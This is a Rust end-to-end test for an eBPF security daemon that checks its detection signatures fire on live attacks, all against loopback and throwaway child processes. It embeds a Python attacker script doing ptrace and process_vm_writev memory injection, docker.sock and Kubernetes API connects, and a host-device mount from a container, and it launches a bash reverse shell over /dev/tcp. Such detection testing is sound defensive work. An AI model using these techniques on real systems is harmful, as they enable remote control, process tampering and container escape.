//! The network and process signatures of the default set fire live, on
//! what an attacker does: one daemon with the default set (and
//! `--exec-env`, which TRC-1013 needs), one fake container (a Docker-named
//! cgroup, made before the daemon starts so it counts as started), and:
//!
//! - a reverse shell, `bash -i` with stdio on a TCP socket (TRC-101 on
//!   `socket_dup`), and one connected on fd 0 (TRC-101 on the connect);
//! - a ptrace injection: attach to a child, `PTRACE_POKETEXT` into it
//!   (TRC-103), and a process asking to be traced (`PTRACE_TRACEME`, TRC-102);
//! - a `process_vm_writev` into a child (TRC-1025);
//! - from the container: a connect to a `docker.sock` (TRC-1019), to the
//!   Kubernetes API address its `env` names (TRC-1013, a stand-in on
//!   loopback), and a mount of a `/dev` device in a private mount namespace
//!   onto a tmpfs (TRC-1014; the mount need not succeed: the event is the
//!   attempt, and nothing on the machine changes).
//!
//! Each attack is preceded by near misses of the same signature (stdio on a
//! Unix socket, a socket dup'ed to fd 5, a peek, a process writing into
//! itself, another Unix socket, another address, a tmpfs mount, the same
//! acts from the host where the signature wants a container). A signature
//! sees its events in order and these events share one ring buffer, so once
//! the attack's finding is out, a near miss's would be too. The daemon
//! sees the whole machine: everything is checked on the pids used here.
//! TRC-1017 (`module_load`) cannot fire on this kernel, built without
//! modules: it fires live in a QEMU kernel (`tests/kernels/trc-1017-live.sh`).

use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::os::unix::net::UnixListener;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use serde_json::Value;
use sigbox_e2e::{Daemon, is_root, json_lines, signatures_dir, temp_dir};

use crate::exec_fields::{ContainerCgroup, cgroup2_mount};
use crate::live::start_live_with;

/// Logged each time the kernel's network, process and mount switches change.
const SWITCHED: &str = "kernel network, process and mount events set for the loaded signatures";
/// The kinds these signatures select, as that log line names them.
const KINDS: [&str; 5] = [
    "security_socket_connect",
    "socket_dup",
    "ptrace",
    "process_vm_writev",
    "security_sb_mount",
];
/// The signatures fired here.
const SIGNATURES: [&str; 7] = [
    "TRC-101", "TRC-102", "TRC-103", "TRC-1013", "TRC-1014", "TRC-1019", "TRC-1025",
];
/// The stand-in Kubernetes API server's address (loopback).
const K8S_API: &str = "127.0.0.77";

/// The attacker's tool: `argv[1]` names the act; prints what it did as one
/// JSON line (on a copy of stdout, for acts that take over fds 0–2).
const ATTACKER: &str = r#"
import ctypes, json, os, select, signal, socket, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.process_vm_writev.restype = ctypes.c_ssize_t
libc.process_vm_writev.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_ulong,
                                   ctypes.c_void_p, ctypes.c_ulong, ctypes.c_ulong]
libc.mount.argtypes = [ctypes.c_char_p, ctypes.c_char_p, ctypes.c_char_p,
                       ctypes.c_ulong, ctypes.c_void_p]
TRACEME, PEEKTEXT, POKETEXT, ATTACH, DETACH = 0, 1, 4, 16, 17
out_fd = os.dup(1)
out = {'pid': os.getpid()}

class Iovec(ctypes.Structure):
    _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]

def paused_child():
    # The child holds the buffer at the same address (fork copies it).
    child = os.fork()
    if child == 0:
        while True:
            signal.pause()
    return child

def reap(child):
    os.kill(child, signal.SIGKILL)
    os.waitpid(child, 0)

def connect(address):
    family = socket.AF_UNIX if isinstance(address, str) else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.connect(address)

act, args = sys.argv[1], sys.argv[2:]
if act == 'stdio-near-misses':
    # stdio on a Unix socket; a TCP socket dup'ed to fd 5.
    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    unix.connect(args[0])
    for fd in (0, 1, 2):
        os.dup2(unix.fileno(), fd)
    tcp = socket.create_connection(('127.0.0.1', int(args[1])))
    os.dup2(tcp.fileno(), 5)
elif act == 'connect-on-stdin':
    # The socket takes fd 0, then connects.
    os.close(0)
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    out['fd'] = s.fileno()
    s.connect(('127.0.0.1', int(args[0])))
elif act == 'poke':
    buf = ctypes.create_string_buffer(b'original', 8)
    child = paused_child()
    addr = ctypes.addressof(buf)
    assert libc.ptrace(ATTACH, child, None, None) == 0, ctypes.get_errno()
    os.waitpid(child, 0)
    ctypes.set_errno(0)
    before = libc.ptrace(PEEKTEXT, child, addr, None)
    word = int.from_bytes(b'injected', 'little')
    assert libc.ptrace(POKETEXT, child, addr, word) == 0, ctypes.get_errno()
    after = libc.ptrace(PEEKTEXT, child, addr, None) & (2**64 - 1)
    out.update(child=child, before=before.to_bytes(8, 'little', signed=True).decode(),
               after=after.to_bytes(8, 'little').decode())
    libc.ptrace(DETACH, child, None, None)
    reap(child)
elif act == 'traceme':
    out['rc'] = libc.ptrace(TRACEME, 0, None, None)
elif act == 'vm-write':
    buf = ctypes.create_string_buffer(b'original', 8)
    child = paused_child()
    payload = ctypes.create_string_buffer(b'injected', 8)
    local = Iovec(ctypes.addressof(payload), 8)
    remote = Iovec(ctypes.addressof(buf), 8)
    # Into itself first (no injection), then into the child.
    own = libc.process_vm_writev(os.getpid(), ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    other = libc.process_vm_writev(child, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    out.update(child=child, own=own, other=other)
    reap(child)
elif act == 'connect':
    connect(args[0] if len(args) == 1 else (args[0], int(args[1])))
elif act == 'connect-until-told':
    # Until stdin has something: the daemon may read this process's exec
    # (which teaches TRC-1013 the address) after its first connects.
    for _ in range(6000):
        connect((args[0], int(args[1])))
        if select.select([sys.stdin], [], [], 0.02)[0]:
            break
    else:
        sys.exit('never told to stop')
elif act == 'mount':
    # In a private mount namespace: a tmpfs on the directory, then the
    # device onto a directory in it.
    target, device = args[0].encode(), args[1].encode()
    out['tmpfs'] = libc.mount(b'sigbox-e2e-mount', target, b'tmpfs', 0, None)
    os.mkdir(target + b'/host')
    rc = libc.mount(device, target + b'/host', b'ext4', 1, None)
    out['device'] = rc if rc == 0 else -ctypes.get_errno()
    if rc == 0:
        libc.umount2(target + b'/host', 0)
os.write(out_fd, (json.dumps(out) + '\n').encode())
"#;

/// `python3 -c ATTACKER act args…`.
fn attacker(act: &str, args: &[&str]) -> Command {
    let mut command = without_loader_env("python3");
    command.arg("-c").arg(ATTACKER).arg(act).args(args);
    command
}

/// `program`, without the `LD_LIBRARY_PATH` cargo gives tests: with
/// `--exec-env`, TRC-107 would rightly fire on each exec.
fn without_loader_env(program: &str) -> Command {
    let mut command = Command::new(program);
    command
        .env_remove("LD_LIBRARY_PATH")
        .env_remove("LD_PRELOAD");
    command
}

/// Runs `command` to its end (it succeeds); returns the JSON line it printed.
fn run_json(command: &mut Command) -> Value {
    let output = command
        .stdin(Stdio::null())
        .output()
        .expect("running the attacker");
    assert!(
        output.status.success(),
        "{command:?}: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    serde_json::from_slice(&output.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&output.stdout)))
}

/// Runs `command` in the container, to its end; returns its JSON line.
fn run_json_inside(container: &ContainerCgroup, command: &mut Command) -> Value {
    let child = container.spawn_inside(command.stdout(Stdio::piped()).stderr(Stdio::piped()));
    let output = child.wait_with_output().expect("waiting for the attacker");
    assert!(
        output.status.success(),
        "{command:?}: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    serde_json::from_slice(&output.stdout).expect("the attacker's JSON line")
}

fn pid_of(report: &Value) -> u64 {
    report["pid"].as_u64().expect("a pid")
}

fn signature_id(finding: &Value) -> &str {
    finding["metadata"]["Properties"]["signatureID"]
        .as_str()
        .unwrap_or_default()
}

/// A finding's data argument `name`.
fn data<'a>(finding: &'a Value, name: &str) -> &'a Value {
    finding["args"]
        .as_array()
        .and_then(|args| args.iter().find(|a| a["name"] == name))
        .map(|a| &a["value"])
        .unwrap_or_else(|| panic!("no {name} in {finding}"))
}

/// The findings among `lines` of the process `pid`.
fn findings_of_pid(lines: &[String], pid: u64) -> Vec<Value> {
    json_lines(lines.join("\n").as_bytes())
        .into_iter()
        .filter(|f| f["hostProcessId"].as_u64() == Some(pid))
        .collect()
}

/// Waits for a finding of signature `id` from `pid`; returns it.
fn wait_for_finding(daemon: &Daemon, id: &str, pid: u64) -> Value {
    let found = |lines: &[String]| {
        findings_of_pid(lines, pid)
            .into_iter()
            .find(|f| signature_id(f) == id)
    };
    let arrived = daemon.wait_for_stdout(Duration::from_secs(120), |lines| found(lines).is_some());
    assert!(
        arrived,
        "no {id} finding from pid {pid}\n{}",
        daemon.stderr_text()
    );
    found(&daemon.stdout_lines()).unwrap()
}

/// Waits until every signature fired here is loaded and the kernel's
/// switches are on for all their kinds (signatures load after the daemon
/// is ready, and each load may switch more on).
fn wait_for_every_signature_and_kind(daemon: &Daemon) {
    let deadline = Instant::now() + Duration::from_secs(300);
    loop {
        let log = daemon.stderr_text();
        let loaded = SIGNATURES
            .iter()
            .all(|id| log.contains(&format!("loaded signature {id} ")));
        let switched = log.lines().any(|line| {
            line.contains(SWITCHED)
                && line.contains("attached=true")
                && KINDS
                    .iter()
                    .all(|kind| line.contains(&format!("\"{kind}\"")))
        });
        if loaded && switched {
            return;
        }
        assert!(Instant::now() < deadline, "{log}");
        std::thread::sleep(Duration::from_millis(20));
    }
}

/// A listener on loopback that accepts and drops connections in a thread
/// of its own for as long as the test runs.
fn sink_listener(ip: &str) -> u16 {
    let listener = TcpListener::bind((ip, 0)).expect("binding on loopback");
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for connection in listener.incoming() {
            drop(connection);
        }
    });
    port
}

/// The device the root file system is mounted from, as an attacker in a
/// container would name the host's disk.
fn root_device() -> String {
    let mountinfo = std::fs::read_to_string("/proc/self/mountinfo").unwrap();
    mountinfo
        .lines()
        .filter(|line| line.split_whitespace().nth(4) == Some("/"))
        .filter_map(|line| line.split_once(" - ")?.1.split_whitespace().nth(1))
        .find(|source| source.starts_with("/dev/"))
        .unwrap_or("/dev/sda1")
        .to_owned()
}

/// `bash -i` with its stdio on a TCP connection to a listener here, driven
/// as the attacker's end would; returns its pid.
fn reverse_shell(port_listener: &TcpListener) -> u64 {
    let port = port_listener.local_addr().unwrap().port();
    let mut shell = without_loader_env("bash")
        .args([
            "-c",
            &format!("exec bash --norc -i >& /dev/tcp/127.0.0.1/{port} 0>&1"),
        ])
        // No history file written to root's home at exit.
        .env("HISTFILE", "")
        .stdin(Stdio::null())
        .spawn()
        .expect("starting bash");
    let (mut connection, _) = port_listener.accept().expect("the shell connects back");
    connection
        .write_all(b"echo sbx-$((6 * 7))-owned\nexit\n")
        .unwrap();
    let mut session = String::new();
    connection.read_to_string(&mut session).unwrap();
    assert!(session.contains("sbx-42-owned"), "{session}");
    assert!(shell.wait().unwrap().success());
    u64::from(shell.id())
}

/// What each pid used here must have given, after the daemon stopped:
/// exactly these signatures' findings, in this order.
type Expected = BTreeMap<u64, Vec<&'static str>>;

/// TRC-101: stdio on sockets.
fn stdio_over_socket(daemon: &Daemon, expected: &mut Expected) {
    let socket_dir = temp_dir("net-live-stdio");
    let unix_path = socket_dir.join("shell.sock");
    let _unix = UnixListener::bind(&unix_path).unwrap();
    let port = sink_listener("127.0.0.1");
    let near = run_json(&mut attacker(
        "stdio-near-misses",
        &[unix_path.to_str().unwrap(), &port.to_string()],
    ));
    expected.insert(pid_of(&near), vec![]);

    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let shell = reverse_shell(&listener);
    // bash -i >& /dev/tcp/…: dup2(socket, 1), dup2(1, 2); 0>&1: dup2(1, 0).
    expected.insert(shell, vec!["TRC-101"; 3]);
    let port = listener.local_addr().unwrap().port().to_string();
    let stdin = run_json(&mut attacker("connect-on-stdin", &[&port]));
    assert_eq!(stdin["fd"], 0, "{stdin}");
    expected.insert(pid_of(&stdin), vec!["TRC-101"]);
    let on_stdin = wait_for_finding(daemon, "TRC-101", pid_of(&stdin));
    assert_eq!(data(&on_stdin, "File descriptor"), 0, "{on_stdin}");
    assert_eq!(data(&on_stdin, "IP address"), "127.0.0.1", "{on_stdin}");
    assert_eq!(data(&on_stdin, "Port"), port.as_str(), "{on_stdin}");
    assert_eq!(detected_from(&on_stdin), "security_socket_connect");

    // Evaluated before the connect on fd 0, which came later.
    let lines = daemon.stdout_lines();
    let shell_fds: Vec<Value> = findings_of_pid(&lines, shell)
        .iter()
        .map(|f| data(f, "File descriptor").clone())
        .collect();
    assert_eq!(shell_fds, [1, 2, 0], "{lines:?}");
    for finding in findings_of_pid(&lines, shell) {
        assert_eq!(detected_from(&finding), "socket_dup", "{finding}");
        assert_eq!(data(&finding, "Port"), port.as_str(), "{finding}");
    }
    assert_eq!(findings_of_pid(&lines, pid_of(&near)), Vec::<Value>::new());
}

/// TRC-103 and TRC-102: ptrace.
fn ptrace_injection(daemon: &Daemon, expected: &mut Expected) {
    let poke = run_json(&mut attacker("poke", &[]));
    assert_eq!(
        (poke["before"].as_str(), poke["after"].as_str()),
        (Some("original"), Some("injected")),
        "the injection did not happen: {poke}"
    );
    expected.insert(pid_of(&poke), vec!["TRC-103"]);
    let traceme = run_json(&mut attacker("traceme", &[]));
    assert_eq!(traceme["rc"], 0, "{traceme}");
    expected.insert(pid_of(&traceme), vec!["TRC-102"]);
    wait_for_finding(daemon, "TRC-103", pid_of(&poke));
    // The injector's attach and peeks came before the TRACEME.
    wait_for_finding(daemon, "TRC-102", pid_of(&traceme));
}

/// TRC-1025: process_vm_writev.
fn process_memory_write(daemon: &Daemon, expected: &mut Expected) {
    let write = run_json(&mut attacker("vm-write", &[]));
    assert!(write["own"] == 8 && write["other"] == 8, "{write}");
    // One finding: the write into itself came first and gave none.
    expected.insert(pid_of(&write), vec!["TRC-1025"]);
    wait_for_finding(daemon, "TRC-1025", pid_of(&write));
}

/// TRC-1019: a connect to a docker.sock, from the container.
fn docker_socket(daemon: &Daemon, container: &ContainerCgroup, expected: &mut Expected) {
    let socket_dir = temp_dir("net-live-docker");
    let docker = socket_dir.join("docker.sock");
    let other = socket_dir.join("containerd.sock");
    let _listeners = [&docker, &other].map(|path| UnixListener::bind(path).unwrap());
    let (docker, other) = (docker.to_str().unwrap(), other.to_str().unwrap());
    let near = [
        run_json_inside(container, &mut attacker("connect", &[other])),
        run_json(&mut attacker("connect", &[docker])),
    ];
    for report in &near {
        expected.insert(pid_of(report), vec![]);
    }
    let abuse = run_json_inside(container, &mut attacker("connect", &[docker]));
    expected.insert(pid_of(&abuse), vec!["TRC-1019"]);
    let finding = wait_for_finding(daemon, "TRC-1019", pid_of(&abuse));
    assert_eq!(finding["containerId"], container.id.as_str(), "{finding}");
}

/// TRC-1013: a connect to the API address the container's `env` names.
fn kubernetes_api(daemon: &Daemon, container: &ContainerCgroup, expected: &mut Expected) {
    let api_port = sink_listener(K8S_API).to_string();
    let mut pod = attacker("connect-until-told", &[K8S_API, &api_port]);
    pod.env("KUBERNETES_SERVICE_HOST", K8S_API)
        .stdin(Stdio::piped());
    let mut first = container.spawn_inside(&mut pod);
    let first_pid = u64::from(first.id());
    let finding = wait_for_finding(daemon, "TRC-1013", first_pid);
    assert_eq!(data(&finding, "ip"), K8S_API, "{finding}");
    first.stdin.take().unwrap().write_all(b"stop\n").unwrap();
    assert!(first.wait().unwrap().success());

    // Learned now: elsewhere from the container, and the address from the
    // host, give nothing; the address from the container again fires.
    let other_port = sink_listener("127.0.0.1").to_string();
    let near = [
        run_json_inside(
            container,
            attacker("connect", &["127.0.0.1", &other_port])
                .env("KUBERNETES_SERVICE_HOST", K8S_API),
        ),
        run_json(
            attacker("connect", &[K8S_API, &api_port]).env("KUBERNETES_SERVICE_HOST", K8S_API),
        ),
    ];
    for report in &near {
        expected.insert(pid_of(report), vec![]);
    }
    let again = run_json_inside(container, &mut attacker("connect", &[K8S_API, &api_port]));
    expected.insert(pid_of(&again), vec!["TRC-1013"]);
    wait_for_finding(daemon, "TRC-1013", pid_of(&again));
    let lines = daemon.stdout_lines();
    assert!(
        findings_of_pid(&lines, first_pid)
            .iter()
            .all(|f| signature_id(f) == "TRC-1013"),
        "{lines:?}"
    );
}

/// TRC-1014: a device mount from the container.
fn device_mount(daemon: &Daemon, container: &ContainerCgroup, expected: &mut Expected) {
    let device = root_device();
    let mount = |label: &str| {
        let target = temp_dir(label);
        let mut command = without_loader_env("unshare");
        command
            .args(["-m", "--propagation", "private", "python3", "-c", ATTACKER])
            .args(["mount", target.to_str().unwrap(), &device]);
        command
    };
    // From the host: not a container's; in the container, the tmpfs mount
    // (not a device) comes first and gives nothing.
    let host = run_json(&mut mount("net-live-mount-host"));
    expected.insert(pid_of(&host), vec![]);
    let escape = run_json_inside(container, &mut mount("net-live-mount"));
    assert_eq!(escape["tmpfs"], 0, "{escape}");
    eprintln!("mounting {device} from the container: {escape}");
    expected.insert(pid_of(&escape), vec!["TRC-1014"]);
    let finding = wait_for_finding(daemon, "TRC-1014", pid_of(&escape));
    assert_eq!(finding["containerId"], container.id.as_str(), "{finding}");
    assert_eq!(
        finding["contextFlags"]["containerStarted"], true,
        "{finding}"
    );
}

/// The name of the event a finding was detected from.
fn detected_from(finding: &Value) -> &str {
    data(finding, "detectedFrom")["name"]
        .as_str()
        .unwrap_or_default()
}

#[test]
fn every_network_and_process_signature_fires_live_on_an_attack() {
    if !is_root() {
        eprintln!("skipped: live eBPF tests need root");
        return;
    }
    let Some(cgroup_root) = cgroup2_mount() else {
        eprintln!("skipped: no cgroup2 hierarchy mounted");
        return;
    };
    for tool in ["python3", "bash", "unshare"] {
        if Command::new(tool).arg("--version").output().is_err() {
            eprintln!("skipped: no {tool}");
            return;
        }
    }
    // Made before the daemon starts: a started container from its first
    // event on (see file_signatures_live).
    let container = ContainerCgroup::create(&cgroup_root);
    let Some((daemon, _status)) = start_live_with(&signatures_dir(), &["--exec-env"]) else {
        return;
    };
    wait_for_every_signature_and_kind(&daemon);

    let mut expected = Expected::new();
    stdio_over_socket(&daemon, &mut expected);
    ptrace_injection(&daemon, &mut expected);
    process_memory_write(&daemon, &mut expected);
    docker_socket(&daemon, &container, &mut expected);
    kubernetes_api(&daemon, &container, &mut expected);
    device_mount(&daemon, &container, &mut expected);

    // Stopped, every finding is out: per pid exactly the expected ones.
    let stopped = daemon.stop();
    assert!(stopped.status.success(), "{}", stopped.stderr);
    for (pid, ids) in &expected {
        let got: Vec<String> = findings_of_pid(&stopped.stdout, *pid)
            .iter()
            .map(|f| signature_id(f).to_owned())
            .collect();
        assert_eq!(&got, ids, "pid {pid}: {:#?}", stopped.stdout);
    }
}
